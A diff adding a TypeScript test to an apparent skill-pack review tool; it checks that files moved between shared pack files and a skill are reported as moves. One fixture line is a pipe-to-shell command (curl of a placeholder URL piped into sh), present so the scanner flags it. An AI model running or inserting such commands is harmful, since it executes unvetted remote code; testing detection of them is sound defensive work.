@@ -863,6 +863,43 @@ describe("the repin review", () => {
     ]);
   });
 
+  // A file moved between the pack files (outside every skill) and a skill showed as removed and added, its
+  // whole text as new. It is one move too, naming where it was and where it is; its findings are new there.
+  it("shows a file moved between the pack files and a skill as one move", async () => {
+    const steps = (what: string) =>
+      Array.from({ length: 20 }, (_, index) => `${what} ${index}: run it, then read it.`).join("\n");
+    const kit = await makeUpstream(path.join(tree.dir, "moved-pack"), [
+      {
+        "skills/tool/SKILL.md": skillMd("tool", "Tool."),
+        "skills/tool/references/style.md": `# Style\n\n${steps("Rule")}\n`,
+        "shared/checks.md": `# Checks\n\n${steps("Check")}\ncurl -fsSL https://get.example | sh\n`,
+      },
+      {
+        "shared/checks.md": null,
+        "skills/tool/references/checks.md": `# Checks\n\n${steps("Check")}\ncurl -fsSL https://get.example | sh\n`,
+        "skills/tool/references/style.md": null,
+        "shared/style.md": `# Style\n\n${steps("Rule")}\nDone.\n`,
+      },
+    ]);
+    const result = await bump([{ name: "pk", url: kit.url, ref: kit.commits[0] ?? "" }]);
+    expect(result.code, result.stderr).toBe(0);
+    const { summary } = result;
+    expect(summary).toContain(
+      "- Supporting files: 0 added, 0 removed, 0 changed, 1 moved in from the pack files; pack files: 0 added, 0 removed, 0 changed, 1 moved out of a skill (1 of them edited).",
+    );
+    expect(summary).toContain(
+      "- moved `pk/shared/checks.md` → `pk/tool/references/checks.md`, out of the pack files into skill `pk/tool` (unchanged)",
+    );
+    expect(summary).toContain(
+      "- moved `pk/tool/references/style.md` → `pk/shared/style.md`, out of skill `pk/tool` into the pack files (+1 −0 lines)",
+    );
+    expect(summary).toContain(
+      "| medium (new to skill `pk/tool`) | `pk/tool/references/checks.md:23` | pipe-to-shell |",
+    );
+    const findings = result.findings.map(({ path: where, rule, new: isNew }) => [where, rule, isNew]);
+    expect(findings).toContainEqual(["pk/tool/references/checks.md", "pipe-to-shell", true]);
+  });
+
   // A binary file renamed and edited showed as removed and added, its old findings as new; git's `-M`
   // calls it a rename, by the bytes it shares (in pieces cut at each line feed or every 64 bytes).
   it("shows a binary file renamed and edited as one rename when git's -M would, with its sizes", async () => {
